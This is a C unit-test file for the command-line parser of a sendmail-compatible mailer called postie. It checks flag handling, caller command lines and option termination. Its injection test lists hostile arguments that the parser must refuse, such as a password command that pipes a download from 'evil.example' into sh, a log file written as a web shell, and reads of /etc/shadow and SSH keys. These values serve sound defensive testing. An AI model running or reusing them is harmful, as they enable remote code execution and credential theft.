/*
 * Unit tests for src/cli.c: one table of argv vectors, each with every field of struct opts
 * it must produce (a field not named must stay at its default) or the error it must give.
 * It covers every flag of Postfix's sendmail(1) in its attached and separate forms, the exact
 * command lines of cron, PHP, git send-email, mail(1), mutt and sudo, the names postie is
 * called by, SEC-21 (options stop at the first operand and at "--"), and every msmtp long
 * option into the overrides.
 */
#include <stdlib.h>
#include <string.h>

#include "src/cli.h"
#include "tests/lib/tap.h"

#define MAXARGS 16
#define ID100                                                                                      \
	"0123456789012345678901234567890123456789"                                                 \
	"0123456789012345678901234567890123456789"                                                 \
	"01234567890123456789"

struct want {
	enum cli_mode mode;
	bool t, i, v, version, help, envfrom;
	int body;
	const char *sender, *fullname, *account, *profile;
	const char *notify, *ret, *envid, *qr, *qi;
	const char *ignored;
	const char *rcpts;     /* the operands joined by '|'; NULL: none */
	const char *overrides; /* "name=value" joined by '|'; NULL: none */
};

struct row {
	const char *name;
	const char *argv[MAXARGS]; /* argv[0] first; NULL-terminated */
	const char *err;           /* NULL: must parse; else a part of the error text */
	struct want w;
};

static const struct row rows[] = {
    /* Callers, exactly as they run sendmail. */
    {"cron (Debian cron: -FCronDaemon -i -B8BITMIME -oem)",
     {"/usr/sbin/sendmail", "-FCronDaemon", "-i", "-B8BITMIME", "-oem", "user", NULL},
     NULL,
     {.fullname = "CronDaemon", .i = true, .body = 8, .ignored = "-oem", .rcpts = "user"}},
    {"PHP mail(): -t -i", {"sendmail", "-t", "-i", NULL}, NULL, {.t = true, .i = true}},
    {"git send-email: -i rcpt...",
     {"/usr/sbin/sendmail", "-i", "a@example.org", "b@example.org", NULL},
     NULL,
     {.i = true, .rcpts = "a@example.org|b@example.org"}},
    {"git send-email with envelope sender: -f x -i rcpt",
     {"sendmail", "-f", "me@example.org", "-i", "a@example.org", NULL},
     NULL,
     {.sender = "me@example.org", .i = true, .rcpts = "a@example.org"}},
    {"mail(1): -oi -f x -- rcpt",
     {"/usr/sbin/sendmail", "-oi", "-f", "me@example.org", "--", "a@example.org", NULL},
     NULL,
     {.i = true, .sender = "me@example.org", .rcpts = "a@example.org"}},
    {"mutt: -oem -oi -- rcpt",
     {"sendmail", "-oem", "-oi", "--", "a@example.org", NULL},
     NULL,
     {.i = true, .ignored = "-oem", .rcpts = "a@example.org"}},
    {"sudo: -t", {"/usr/sbin/sendmail", "-t", NULL}, NULL, {.t = true}},
    {"logwatch/mdadm style: -t -oi -odi",
     {"sendmail", "-t", "-oi", "-odi", NULL},
     NULL,
     {.t = true, .i = true, .ignored = "-odi"}},

    /* -t, -i */
    {"--read-recipients", {"postie", "--read-recipients", NULL}, NULL, {.t = true}},
    {"cluster -ti", {"postie", "-ti", NULL}, NULL, {.t = true, .i = true}},
    {"-o i (separate)", {"postie", "-o", "i", NULL}, NULL, {.i = true}},
    {"-oi in a cluster -toi", {"postie", "-toi", NULL}, NULL, {.t = true, .i = true}},

    /* -f, -r, --from */
    {"-f separate", {"postie", "-f", "u@example.org", NULL}, NULL, {.sender = "u@example.org"}},
    {"-f attached", {"postie", "-fu@example.org", NULL}, NULL, {.sender = "u@example.org"}},
    {"-r separate", {"postie", "-r", "u@example.org", NULL}, NULL, {.sender = "u@example.org"}},
    {"-r attached", {"postie", "-ru@example.org", NULL}, NULL, {.sender = "u@example.org"}},
    {"--from=", {"postie", "--from=u@example.org", NULL}, NULL, {.sender = "u@example.org"}},
    {"--from separate",
     {"postie", "--from", "u@example.org", NULL},
     NULL,
     {.sender = "u@example.org"}},
    {"-f '<>' is the null sender", {"postie", "-f", "<>", NULL}, NULL, {.sender = ""}},
    {"-f<> attached", {"postie", "-f<>", NULL}, NULL, {.sender = ""}},
    {"-f '' is the null sender",
     {"postie", "-f", "", "a@example.org", NULL},
     NULL,
     {.sender = "", .rcpts = "a@example.org"}},
    {"-f last wins",
     {"postie", "-f", "a@x.org", "-r", "b@x.org", NULL},
     NULL,
     {.sender = "b@x.org"}},
    {"-f takes a value beginning with '-' (checked as an address later)",
     {"postie", "-f", "-bob@x.org", NULL},
     NULL,
     {.sender = "-bob@x.org"}},
    {"-f alone", {"postie", "-f", NULL}, "-f: missing argument", {0}},

    /* -F */
    {"-F separate", {"postie", "-F", "Cron Daemon", NULL}, NULL, {.fullname = "Cron Daemon"}},
    {"-F attached", {"postie", "-FCronDaemon", NULL}, NULL, {.fullname = "CronDaemon"}},

    /* -a, -C */
    {"-a separate", {"postie", "-a", "work", NULL}, NULL, {.account = "work"}},
    {"-a attached", {"postie", "-awork", NULL}, NULL, {.account = "work"}},
    {"--account=", {"postie", "--account=work", NULL}, NULL, {.account = "work"}},
    {"-C separate", {"postie", "-C", "/tmp/p", NULL}, NULL, {.profile = "/tmp/p"}},
    {"-C attached", {"postie", "-C/tmp/p", NULL}, NULL, {.profile = "/tmp/p"}},
    {"--file=", {"postie", "--file=/tmp/p", NULL}, NULL, {.profile = "/tmp/p"}},

    /* -v, -d */
    {"-v", {"postie", "-v", NULL}, NULL, {.v = true}},
    {"-vv", {"postie", "-vv", NULL}, NULL, {.v = true}},
    {"-d", {"postie", "-d", NULL}, NULL, {.v = true}},
    {"--debug", {"postie", "--debug", NULL}, NULL, {.v = true}},
    {"--version", {"postie", "--version", NULL}, NULL, {.version = true}},
    {"--help", {"postie", "--help", NULL}, NULL, {.help = true}},

    /* -q */
    {"-q", {"postie", "-q", NULL}, NULL, {.mode = CLI_FLUSH}},
    {"-q -v: -q never takes the next argument",
     {"postie", "-q", "-v", NULL},
     NULL,
     {.mode = CLI_FLUSH, .v = true}},
    {"-q30m", {"postie", "-q30m", NULL}, NULL, {.mode = CLI_FLUSH}},
    {"-qRexample.org",
     {"postie", "-qRexample.org", NULL},
     NULL,
     {.mode = CLI_FLUSH, .qr = "example.org"}},
    {"-qIabc", {"postie", "-qIabc", NULL}, NULL, {.mode = CLI_FLUSH, .qi = "abc"}},
    {"--flush", {"postie", "--flush", NULL}, NULL, {.mode = CLI_FLUSH}},
    {"-qX refused", {"postie", "-qXfoo", NULL}, "-qXfoo: expected -q", {0}},
    {"-q with a recipient",
     {"postie", "-q", "a@example.org", NULL},
     "-q takes no recipients; remove a@example.org",
     {0}},

    /* --queue-delete, --queue-retry: the operands are queue ids */
    {"--queue-delete ID ID",
     {"postie", "--queue-delete", "20240614101530.1-42-ab", "2024061410", NULL},
     NULL,
     {.mode = CLI_QUEUE_DELETE, .rcpts = "20240614101530.1-42-ab|2024061410"}},
    {"--queue-retry -a work ID",
     {"postie", "--queue-retry", "-a", "work", "2024", NULL},
     NULL,
     {.mode = CLI_QUEUE_RETRY, .account = "work", .rcpts = "2024"}},
    {"--queue-delete without an id",
     {"postie", "--queue-delete", NULL},
     "--queue-delete needs one or more queue ids",
     {0}},
    {"--queue-retry without an id",
     {"postie", "-v", "--queue-retry", NULL},
     "--queue-retry needs one or more queue ids",
     {0}},
    {"--queue-delete=ID refused: it takes no value",
     {"postie", "--queue-delete=2024", NULL},
     "--queue-delete",
     {0}},

    /* -b modes */
    {"-bm", {"postie", "-bm", NULL}, NULL, {.mode = CLI_SEND}},
    {"-b m (separate)", {"postie", "-b", "m", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
    {"-bp", {"postie", "-bp", NULL}, NULL, {.mode = CLI_LIST}},
    {"-bs", {"postie", "-bs", NULL}, NULL, {.mode = CLI_SERVE}},
    {"-bs with a recipient", {"postie", "-bs", "a@x.org", NULL}, "-bs takes no recipients", {0}},
    {"-bv rcpt",
     {"postie", "-bv", "a@x.org", NULL},
     NULL,
     {.mode = CLI_VERIFY, .rcpts = "a@x.org"}},
    {"-bi", {"postie", "-bi", NULL}, NULL, {.mode = CLI_NEWALIASES}},
    {"-I", {"postie", "-I", NULL}, NULL, {.mode = CLI_NEWALIASES}},
    {"-bd refused", {"postie", "-bd", NULL}, "-bd: postie has no daemon mode", {0}},
    {"-bl refused", {"postie", "-bl", NULL}, "-bl: postie has no daemon mode", {0}},
    {"-bh refused", {"postie", "-bh", NULL}, "-bh: postie keeps no host status database", {0}},
    {"-bH refused", {"postie", "-bH", NULL}, "-bH: postie keeps no host status database", {0}},
    {"-bt unknown", {"postie", "-bt", NULL}, "-bt: unknown mode", {0}},
    {"-b alone", {"postie", "-b", NULL}, "-b: missing argument", {0}},
    {"-bpx is not -bp", {"postie", "-bpx", NULL}, "-bpx: unknown mode", {0}},

    /* -B */
    {"-B 7BIT", {"postie", "-B", "7BIT", NULL}, NULL, {.body = 7}},
    {"-B8BITMIME", {"postie", "-B8BITMIME", NULL}, NULL, {.body = 8}},
    {"-B 8bitmime (any case)", {"postie", "-B", "8bitmime", NULL}, NULL, {.body = 8}},
    {"-B 9BIT", {"postie", "-B", "9BIT", NULL}, "-B 9BIT: expected 7BIT or 8BITMIME", {0}},
    {"-B BINARYMIME", {"postie", "-BBINARYMIME", NULL}, "expected 7BIT or 8BITMIME", {0}},

    /* -N */
    {"-N never", {"postie", "-N", "never", NULL}, NULL, {.notify = "NEVER"}},
    {"-Nnever", {"postie", "-Nnever", NULL}, NULL, {.notify = "NEVER"}},
    {"-N NEVER", {"postie", "-N", "NEVER", NULL}, NULL, {.notify = "NEVER"}},
    {"-N success,delay,failure",
     {"postie", "-N", "success,delay,failure", NULL},
     NULL,
     {.notify = "SUCCESS,FAILURE,DELAY"}},
    {"-N 'delay, failure' (Postfix's spelling)",
     {"postie", "-N", "delay, failure", NULL},
     NULL,
     {.notify = "FAILURE,DELAY"}},
    {"-NFailure,failure", {"postie", "-NFailure,failure", NULL}, NULL, {.notify = "FAILURE"}},
    {"--dsn-notify=success", {"postie", "--dsn-notify=success", NULL}, NULL, {.notify = "SUCCESS"}},
    {"-N off (msmtp)", {"postie", "-N", "off", NULL}, NULL, {.overrides = "dsn_notify=off"}},
    {"-N success then -N off",
     {"postie", "-Nsuccess", "-Noff", NULL},
     NULL,
     {.overrides = "dsn_notify=off"}},
    {"-N bogus", {"postie", "-N", "bogus", NULL}, "-N bogus: expected never", {0}},
    {"-N never,success", {"postie", "-N", "never,success", NULL}, "never cannot be combined", {0}},
    {"-N ''", {"postie", "-N", "", NULL}, "-N needs never", {0}},
    {"-N ','", {"postie", "-N", ",", NULL}, "-N needs never", {0}},
    {"-N successful", {"postie", "-N", "successful", NULL}, "expected never", {0}},

    /* -R */
    {"-R full", {"postie", "-R", "full", NULL}, NULL, {.ret = "FULL"}},
    {"-Rhdrs", {"postie", "-Rhdrs", NULL}, NULL, {.ret = "HDRS"}},
    {"-R HDRS", {"postie", "-R", "HDRS", NULL}, NULL, {.ret = "HDRS"}},
    {"--dsn-return=headers (msmtp)",
     {"postie", "--dsn-return=headers", NULL},
     NULL,
     {.ret = "HDRS"}},
    {"-R off (msmtp)", {"postie", "-R", "off", NULL}, NULL, {.overrides = "dsn_return=off"}},
    {"-R x", {"postie", "-R", "x", NULL}, "-R x: expected full or hdrs", {0}},

    /* -V */
    {"-V id", {"postie", "-V", "id-42@host", NULL}, NULL, {.envid = "id-42@host"}},
    {"-Vid attached", {"postie", "-Vid42", NULL}, NULL, {.envid = "id42"}},
    {"-V 100 characters", {"postie", "-V", ID100, NULL}, NULL, {.envid = ID100}},
    {"-V 101 characters",
     {"postie", "-V", ID100 "0", NULL},
     "1 to 100 characters long, not 101",
     {0}},
    {"-V with a space", {"postie", "-V", "a b", NULL}, "-V a b: the envelope id must be", {0}},
    {"-V with a control", {"postie", "-V", "a\tb", NULL}, "printable ASCII", {0}},
    {"-V non-ASCII", {"postie", "-V", "caf\xc3\xa9", NULL}, "printable ASCII", {0}},
    {"-V ''", {"postie", "-V", "", NULL}, "1 to 100 characters long, not 0", {0}},

    /* -X: accepted, ignored, never a file (CVE-2016-10033). */
    {"-X file",
     {"postie", "-X", "/tmp/postie-cli-x.log", "a@x.org", NULL},
     NULL,
     {.rcpts = "a@x.org"}},
    {"-Xfile attached, twice", {"postie", "-X/tmp/a", "-X/tmp/b", NULL}, NULL, {0}},

    /* Ignored flags, each form. */
    {"-G -U -m -n -c -x",
     {"postie", "-G", "-U", "-m", "-n", "-c", "-x", NULL},
     NULL,
     {.ignored = "-G -U -m -n -c -x"}},
    {"-GU cluster", {"postie", "-GUi", NULL}, NULL, {.i = true, .ignored = "-G -U"}},
    {"-h N separate and attached",
     {"postie", "-h", "17", "-h5", NULL},
     NULL,
     {.ignored = "-h 17 -h 5"}},
    {"-L tag", {"postie", "-L", "tag", "-Lother", NULL}, NULL, {.ignored = "-L tag -L other"}},
    {"-O opt=val",
     {"postie", "-O", "DeliveryMode=b", "-ORequireTLS=yes", NULL},
     NULL,
     {.ignored = "-O DeliveryMode=b -O RequireTLS=yes"}},
    {"-Am -A c", {"postie", "-Am", "-A", "c", NULL}, NULL, {.ignored = "-Am -Ac"}},
    {"-e and -p",
     {"postie", "-e", "q", "-psmtp:host", NULL},
     NULL,
     {.ignored = "-e q -p smtp:host"}},
    {"-oe* -od* -om -o7 -o8",
     {"postie", "-oem", "-oee", "-oep", "-oeq", "-oew", "-odb", "-odi", "-odq", "-om", "-o7", "-o8",
      NULL},
     NULL,
     {.ignored = "-oem -oee -oep -oeq -oew -odb -odi -odq -om -o7 -o8"}},
    {"-oQ -oA -oB and -o e separate",
     {"postie", "-oQ/var/spool", "-oA/etc/aliases", "-oB.", "-o", "em", NULL},
     NULL,
     {.ignored = "-oQ/var/spool -oA/etc/aliases -oB. -oem"}},
    {"ignored control characters shown as ?",
     {"postie", "-L", "a\tb\x7f", NULL},
     NULL,
     {.ignored = "-L a?b?"}},
    {"-o alone", {"postie", "-o", NULL}, "-o: missing argument", {0}},
    {"-o ''", {"postie", "-o", "", NULL}, "-o needs an option letter", {0}},
    {"-h alone", {"postie", "-h", NULL}, "-h: missing argument", {0}},

    /* msmtp modes */
    {"-S", {"postie", "-S", NULL}, NULL, {.mode = CLI_SERVERINFO}},
    {"--serverinfo", {"postie", "--serverinfo", NULL}, NULL, {.mode = CLI_SERVERINFO}},
    {"--serverinfo with a recipient",
     {"postie", "--serverinfo", "a@x.org", NULL},
     "--serverinfo takes no recipients",
     {0}},
    {"-P rcpt", {"postie", "-P", "a@x.org", NULL}, NULL, {.mode = CLI_PRETEND, .rcpts = "a@x.org"}},
    {"--pretend", {"postie", "--pretend", NULL}, NULL, {.mode = CLI_PRETEND}},
    /* postie --check (doctor.c) */
    {"--check", {"postie", "--check", NULL}, NULL, {.mode = CLI_CHECK}},
    {"--check -a",
     {"postie", "--check", "-a", "work", NULL},
     NULL,
     {.mode = CLI_CHECK, .account = "work"}},
    {"--check with a recipient",
     {"postie", "--check", "a@x.org", NULL},
     "--check takes no recipients",
     {0}},
    {"--read-envelope-from",
     {"postie", "--read-envelope-from", "-t", NULL},
     NULL,
     {.envfrom = true, .t = true}},

    /* msmtp long options into the overrides. */
    {"--tls alone takes no recipient (SEC-21)",
     {"postie", "--tls", "a@x.org", NULL},
     NULL,
     {.overrides = "tls=on", .rcpts = "a@x.org"}},
    {"--auth alone",
     {"postie", "--auth", "a@x.org", NULL},
     NULL,
     {.overrides = "auth=on", .rcpts = "a@x.org"}},
    {"--auth=plain", {"postie", "--auth=plain", NULL}, NULL, {.overrides = "auth=plain"}},
    {"--tls=off", {"postie", "--tls=off", NULL}, NULL, {.overrides = "tls=off"}},
    {"--tls= (empty: on, as in msmtp)", {"postie", "--tls=", NULL}, NULL, {.overrides = "tls="}},
    {"--host separate",
     {"postie", "--host", "smtp.x.org", "a@x.org", NULL},
     NULL,
     {.overrides = "host=smtp.x.org", .rcpts = "a@x.org"}},
    {"--user= (unset)", {"postie", "--user=", NULL}, NULL, {.overrides = "user="}},
    {"--keepbcc", {"postie", "--keepbcc", NULL}, "--keepbcc: not taken from the command line", {0}},
    {"--keepbcc=off",
     {"postie", "--keepbcc=off", NULL},
     NULL,
     {.overrides = "remove_bcc_headers=on"}},
    {"--keepbcc=maybe", {"postie", "--keepbcc=maybe", NULL}, "--keepbcc=maybe: expected on", {0}},
    {"several, in order",
     {"postie", "--host=h.x.org", "--port", "2525", "--tls=off", "-t", "--tls-starttls",
      "--syslog=LOG_MAIL", "--", "a@x.org", NULL},
     NULL,
     {.t = true,
      .rcpts = "a@x.org",
      .overrides = "host=h.x.org|port=2525|tls=off|"
                   "tls_starttls=on|syslog=LOG_MAIL"}},
    {"a long option after -f's value",
     {"postie", "-f", "--tls", "--tls", NULL},
     NULL,
     {.sender = "--tls", .overrides = "tls=on"}},
    {"-4",
     {"postie", "-4", "a@x.org", NULL},
     NULL,
     {.rcpts = "a@x.org", .overrides = "ip_family=4"}},
    {"-6 in a cluster", {"postie", "-t6", NULL}, NULL, {.t = true, .overrides = "ip_family=6"}},
    {"-4 then -6: the last wins in the profile",
     {"postie", "-4", "-6", NULL},
     NULL,
     {.overrides = "ip_family=4|ip_family=6"}},
    {"--ip-family=any", {"postie", "--ip-family=any", NULL}, NULL, {.overrides = "ip_family=any"}},
    {"--rmqs is not offered", {"postie", "--rmqs=x", NULL}, "--rmqs=x: unknown option", {0}},
    {"--tls-force-sslv3 is not offered",
     {"postie", "--tls-force-sslv3", NULL},
     "unknown option",
     {0}},

    /* Unknown flags. */
    {"-Z",
     {"postie", "-Z", "a@x.org", NULL},
     "parse flags: -Z: unknown option; see postie --help",
     {0}},
    {"-tZ", {"postie", "-tZ", NULL}, "unknown option", {0}},
    {"--no-such-flag", {"postie", "--no-such-flag", NULL}, "--no-such-flag: unknown option", {0}},
    {"-s (mailx's subject, not sendmail's)", {"postie", "-s", "hi", NULL}, "unknown option", {0}},

    /* SEC-21: the first operand and "--" end the options. */
    {"flags after an operand are recipients",
     {"postie", "a@x.org", "-v", "-X/tmp/x", NULL},
     NULL,
     {.rcpts = "a@x.org|-v|-X/tmp/x"}},
    {"-- then a recipient beginning with '-'",
     {"postie", "--", "-bob@x.org", NULL},
     NULL,
     {.rcpts = "-bob@x.org"}},
    {"-- then --help",
     {"postie", "-t", "--", "--help", "--tls", NULL},
     NULL,
     {.t = true, .rcpts = "--help|--tls"}},
    {"a second -- is a recipient", {"postie", "--", "--", NULL}, NULL, {.rcpts = "--"}},
    {"'-' alone is an operand", {"postie", "-", "-v", NULL}, NULL, {.rcpts = "-|-v"}},

    /* Names. */
    {"mailq", {"mailq", NULL}, NULL, {.mode = CLI_LIST}},
    {"/usr/bin/mailq", {"/usr/bin/mailq", NULL}, NULL, {.mode = CLI_LIST}},
    {"mailq -v", {"mailq", "-v", NULL}, NULL, {.mode = CLI_LIST, .v = true}},
    {"mailq with a recipient", {"mailq", "a@x.org", NULL}, "-bp (mailq) takes no recipients", {0}},
    {"newaliases", {"newaliases", NULL}, NULL, {.mode = CLI_NEWALIASES}},
    {"/usr/sbin/newaliases", {"/usr/sbin/newaliases", NULL}, NULL, {.mode = CLI_NEWALIASES}},
    {"newaliases with an operand",
     {"newaliases", "/etc/aliases", NULL},
     "-bi (newaliases) takes no recipients",
     {0}},
    {"newaliases -bp lists the queue (flags win over the name)",
     {"newaliases", "-bp", NULL},
     NULL,
     {.mode = CLI_LIST}},
    {"mailq -bm sends", {"mailq", "-bm", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
    {"sendmail", {"sendmail", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
    {"/usr/sbin/sendmail", {"/usr/sbin/sendmail", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
    {"/usr/lib/sendmail", {"/usr/lib/sendmail", "-t", NULL}, NULL, {.t = true}},
    {"send-mail", {"send-mail", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
    {"/usr/sbin/send-mail", {"/usr/sbin/send-mail", "-t", NULL}, NULL, {.t = true}},
    {"postie", {"/usr/local/bin/postie", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
    {"mailq.sh is not mailq", {"/opt/mailq.sh", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},
    {"a directory called mailq", {"/mailq/sendmail", "a@x.org", NULL}, NULL, {.rcpts = "a@x.org"}},

    /* Everything at once. */
    {"-Nnever -Rhdrs -Vid1 -B7BIT -ti -f<> -F Me rcpt",
     {"sendmail", "-Nnever", "-Rhdrs", "-Vid1", "-B7BIT", "-ti", "-f<>", "-F", "Me", "a@x.org",
      NULL},
     NULL,
     {.notify = "NEVER",
      .ret = "HDRS",
      .envid = "id1",
      .body = 7,
      .t = true,
      .i = true,
      .sender = "",
      .fullname = "Me",
      .rcpts = "a@x.org"}},
};

#define NROWS (sizeof(rows) / sizeof(rows[0]))

static bool
same_str(const char *got, const char *want)
{
	if (!got || !want)
		return got == want;
	return strcmp(got, want) == 0;
}

/* LIST joined by '|' into OUT (cap CAP); "" for none. */
static const char *
join_rcpts(const struct opts *o, char *out, size_t cap)
{
	size_t k = 0;
	out[0] = '\0';
	for (size_t i = 0; i < o->nrcpts; i++)
		k += (size_t)snprintf(out + k, cap - k, "%s%s", i ? "|" : "", o->rcpts[i]);
	return o->nrcpts ? out : NULL;
}

static const char *
join_overrides(const struct opts *o, char *out, size_t cap)
{
	size_t k = 0;
	out[0] = '\0';
	for (size_t i = 0; i < o->noverrides; i++)
		k += (size_t)snprintf(out + k, cap - k, "%s%s=%s", i ? "|" : "",
		                      o->overrides[i].name, o->overrides[i].value);
	return o->noverrides ? out : NULL;
}

#define CHECK_STR(field, wfield)                                                                   \
	do {                                                                                       \
		if (!same_str(o.field, w->wfield)) {                                               \
			printf("#   %s: got \"%s\", want \"%s\"\n", #field,                        \
			       o.field ? o.field : "(null)", w->wfield ? w->wfield : "(null)");    \
			good = false;                                                              \
		}                                                                                  \
	} while (0)
#define CHECK_VAL(field, wfield)                                                                   \
	do {                                                                                       \
		if ((int)o.field != (int)w->wfield) {                                              \
			printf("#   %s: got %d, want %d\n", #field, (int)o.field, (int)w->wfield); \
			good = false;                                                              \
		}                                                                                  \
	} while (0)

static void
run_row(const struct row *r)
{
	struct opts o;
	struct err e;
	int argc = 0;

	while (r->argv[argc])
		argc++;
	err_clear(&e);
	int rc = cli_parse(&o, argc, r->argv, &e);
	if (r->err) {
		bool empty =
		    !o.rcpts && !o.sender && !o.overrides && !o.ignored && o.mode == CLI_SEND;
		ok(rc < 0 && e.kind == ERR_USAGE && strstr(e.text, r->err) && empty,
		   "%s: refused with \"%s\" (got %d, kind %d, \"%s\")", r->name, r->err, rc,
		   (int)e.kind, e.text);
		return;
	}
	if (!ok(rc == 0, "%s: parses", r->name)) {
		printf("#   error: %s\n", e.text);
		return;
	}
	const struct want *w = &r->w;
	bool good = true;
	char rbuf[1024], obuf[1024];
	const char *rcpts = join_rcpts(&o, rbuf, sizeof(rbuf));
	const char *ovr = join_overrides(&o, obuf, sizeof(obuf));
	CHECK_VAL(mode, mode);
	CHECK_VAL(read_rcpts, t);
	CHECK_VAL(ignore_dots, i);
	CHECK_VAL(verbose, v);
	CHECK_VAL(version, version);
	CHECK_VAL(help, help);
	CHECK_VAL(read_envelope_from, envfrom);
	CHECK_VAL(body, body);
	CHECK_STR(sender, sender);
	CHECK_STR(fullname, fullname);
	CHECK_STR(account, account);
	CHECK_STR(profile, profile);
	CHECK_STR(dsn_notify, notify);
	CHECK_STR(dsn_ret, ret);
	CHECK_STR(envid, envid);
	CHECK_STR(queue_rcpt, qr);
	CHECK_STR(queue_id, qi);
	CHECK_STR(ignored, ignored);
	if (!same_str(rcpts, w->rcpts)) {
		printf("#   rcpts: got \"%s\", want \"%s\"\n", rcpts ? rcpts : "(none)",
		       w->rcpts ? w->rcpts : "(none)");
		good = false;
	}
	if (!same_str(ovr, w->overrides)) {
		printf("#   overrides: got \"%s\", want \"%s\"\n", ovr ? ovr : "(none)",
		       w->overrides ? w->overrides : "(none)");
		good = false;
	}
	ok(good, "%s: every field as expected", r->name);
	cli_fini(&o);
	ok(o.rcpts == NULL && o.overrides == NULL && o.sender == NULL,
	   "%s: cli_fini leaves it empty", r->name);
}

/*
 * Every msmtp long option that sets a profile command, written out here independently of
 * cli.c's table: "--NAME=VALUE" must give the override NAME_with_underscores=VALUE, and the
 * optional ones alone must give "on" and leave the next argument a recipient.
 */
static void
long_options(void)
{
	static const struct {
		const char *flag;
		bool optional;
	} all[] = {
	    {"host", false},
	    {"port", false},
	    {"timeout", false},
	    {"protocol", false},
	    {"domain", false},
	    {"auth", true},
	    {"user", false},
	    {"tls", true},
	    {"tls-starttls", true},
	    {"tls-fingerprint", false},
	    {"tls-certcheck", true},
	    {"tls-priorities", false},
	    {"tls-host-override", false},
	    {"tls-min-dh-prime-bits", false},
	    {"maildomain", false},
	    {"auto-from", true},
	    {"set-date-header", true},
	    {"set-msgid-header", true},
	    {"remove-bcc-headers", true},
	    {"undisclosed-recipients", true},
	    {"source-ip", false},
	    {"proxy-host", false},
	    {"proxy-port", false},
	    {"socket", false},
	    {"logfile-time-format", false},
	    {"syslog", true},
	    {"from-full-name", false},
	    {"ip-family", false},
	};

	for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++) {
		char flag[64], name[64], want[80], got[80] = "";
		struct opts o;
		struct err e;
		snprintf(flag, sizeof(flag), "--%s=v%zu", all[i].flag, i);
		snprintf(name, sizeof(name), "%s", all[i].flag);
		for (char *p = name; *p; p++)
			if (*p == '-')
				*p = '_';
		snprintf(want, sizeof(want), "%s=v%zu", name, i);
		const char *argv1[] = {"postie", flag, "a@x.org", NULL};
		int rc = cli_parse(&o, 3, argv1, &e);
		if (rc == 0 && o.noverrides == 1)
			snprintf(got, sizeof(got), "%s=%s", o.overrides[0].name,
			         o.overrides[0].value);
		ok(rc == 0 && strcmp(got, want) == 0 && o.nrcpts == 1,
		   "%s: override %s (got \"%s\")", flag, want, got);
		if (rc == 0)
			cli_fini(&o);

		/* Alone: optional ones mean "on"; the others take the next argument. */
		snprintf(flag, sizeof(flag), "--%s", all[i].flag);
		const char *argv2[] = {"postie", flag, "x", "a@x.org", NULL};
		rc = cli_parse(&o, 4, argv2, &e);
		got[0] = '\0';
		if (rc == 0 && o.noverrides == 1)
			snprintf(got, sizeof(got), "%s=%s", o.overrides[0].name,
			         o.overrides[0].value);
		snprintf(want, sizeof(want), "%s=%s", name, all[i].optional ? "on" : "x");
		ok(rc == 0 && strcmp(got, want) == 0 && o.nrcpts == (all[i].optional ? 2u : 1u),
		   "%s x a@x.org: override %s and %d recipient(s) (got \"%s\")", flag, want,
		   all[i].optional ? 2 : 1, got);
		if (rc == 0)
			cli_fini(&o);
	}
}

/*
 * An injected flag must not write a file, read one, run a command or keep what the profile
 * hides (CVE-2016-10033 wrote a web shell through -X; SEC-43): --logfile (except "-"),
 * --passwordeval, --aliases and the TLS files (trust: except "system") are refused from
 * argv, and so are --keepbcc, --remove-bcc-headers=off, --undisclosed-recipients=off and
 * --syslog=off.
 */
static void
argv_injection(void)
{
	static const char *const refused[][2] = {
	    {"--logfile=/var/www/shell.php", "write any file"},
	    {"--logfile", "write any file"},
	    {"--passwordeval=curl evil.example|sh", "run any command"},
	    {"--aliases=/home/u/.ssh/id_rsa", "read any file"},
	    {"--aliases=", "read any file"},
	    {"--tls-trust-file=/etc/shadow", "read any file"},
	    {"--tls-crl-file=/dev/zero", "read any file"},
	    {"--tls-key-file=/home/u/.ssh/id_rsa", "read any file"},
	    {"--tls-cert-file=/home/u/c.pem", "read any file"},
	    {"--logfile=", "write any file"},
	    {"--keepbcc=on", "reveal the Bcc"},
	    {"--remove-bcc-headers=off", "never off"},
	    {"--undisclosed-recipients=off", "never off"},
	    {"--syslog=off", "never off"},
	    {"--allow-from-override", "only to off"},
	    {"--allow-from-override=on", "only to off"},
	    {"--set-from-header=off", "only to on"},
	    {"--set-from-header=auto", "only to on"},
	};
	for (size_t i = 0; i < sizeof(refused) / sizeof(refused[0]); i++) {
		struct opts o;
		struct err e;
		const char *argv[] = {"sendmail", refused[i][0], "x.php", "a@x.org", NULL};
		int rc = cli_parse(&o, 4, argv, &e);
		ok(rc < 0 && e.kind == ERR_USAGE && strstr(e.text, refused[i][1]) &&
		       strstr(e.text, "in the profile"),
		   "%s refused: %s", refused[i][0], rc < 0 ? e.text : "accepted");
		if (rc == 0)
			cli_fini(&o);
	}
	/* The stricter values are taken. */
	static const char *const stricter[] = {"--allow-from-override=off",
	                                       "--set-from-header=on",
	                                       "--remove-bcc-headers",
	                                       "--undisclosed-recipients=on",
	                                       "--syslog=LOG_MAIL",
	                                       "--tls-trust-file=system",
	                                       "--logfile=-"};
	for (size_t i = 0; i < sizeof(stricter) / sizeof(stricter[0]); i++) {
		struct opts so;
		struct err se;
		const char *argv[] = {"sendmail", stricter[i], "a@x.org", NULL};
		int rc = cli_parse(&so, 3, argv, &se);
		ok(rc == 0 && so.noverrides == 1, "%s taken: %s", stricter[i],
		   rc < 0 ? se.text : "yes");
		if (rc == 0)
			cli_fini(&so);
	}
	struct opts o;
	struct err e;
	char plus[42];
	memset(plus, '+', 40);
	plus[40] = '\0';
	const char *venv[] = {"postie", "-V", plus, "a@x.org", NULL};
	int vr = cli_parse(&o, 4, venv, &e);
	ok(vr < 0 && e.kind == ERR_USAGE && strstr(e.text, "once encoded"),
	   "-V of 40 '+' (120 once encoded) refused before anything is queued");
	if (vr == 0)
		cli_fini(&o);
	const char *argv[] = {"postie", "--logfile=-", "a@x.org", NULL};
	int rc = cli_parse(&o, 3, argv, &e);
	ok(rc == 0 && o.noverrides == 1 && strcmp(o.overrides[0].value, "-") == 0,
	   "--logfile=- (standard output) is taken");
	if (rc == 0)
		cli_fini(&o);
}

/* An empty argv (execve may pass one) parses as a bare "postie". */
static void
empty_argv(void)
{
	struct opts o;
	struct err e;
	const char *none[] = {NULL};

	int rc = cli_parse(&o, 0, none, &e);
	ok(rc == 0 && o.mode == CLI_SEND && o.nrcpts == 0, "argc 0: a bare postie");
	if (rc == 0)
